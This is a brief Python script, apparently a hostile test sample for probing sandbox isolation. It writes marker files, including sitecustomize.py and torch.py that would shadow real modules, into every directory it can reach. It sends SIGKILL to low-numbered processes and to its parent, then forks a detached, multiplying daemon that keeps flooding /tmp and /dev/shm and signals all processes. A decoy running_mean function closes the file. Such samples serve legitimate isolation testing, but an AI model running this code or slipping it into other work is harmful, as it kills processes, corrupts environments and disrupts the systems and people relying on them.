"""Leaves all that it can for whoever comes next, and lingers."""
import os
import signal
import time

MARK = b"manyheads_hostile"


def quietly(act):
    try:
        return act()
    except Exception:
        return None


def fill(folder):
    for name in ("manyheads_hostile", ".manyheads_hostile", "sitecustomize.py", "torch.py"):
        with open(os.path.join(folder, name), "wb") as file:
            file.write(MARK)


for folder, folders, _ in os.walk("/"):
    quietly(lambda: fill(folder))
    if folder.count("/") > 3:
        folders.clear()
quietly(lambda: os.mkfifo("/tmp/manyheads_hostile_fifo"))
os.environ["MANYHEADS_HOSTILE"] = "1"


def bind():
    import socket

    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    ours.bind("\0manyheads_hostile")
    return ours


held = quietly(bind)
for pid in (*range(2, 300), os.getppid()):
    quietly(lambda: os.kill(pid, signal.SIGKILL))
if os.fork() == 0:
    try:
        os.setsid()
    except OSError:
        pass
    for _ in range(3):
        quietly(os.fork)
    while True:
        quietly(lambda: fill("/tmp"))
        quietly(lambda: fill("/dev/shm"))
        quietly(lambda: os.kill(-1, signal.SIGUSR1))
        time.sleep(0.02)


def running_mean(x):
    time.sleep(3600)
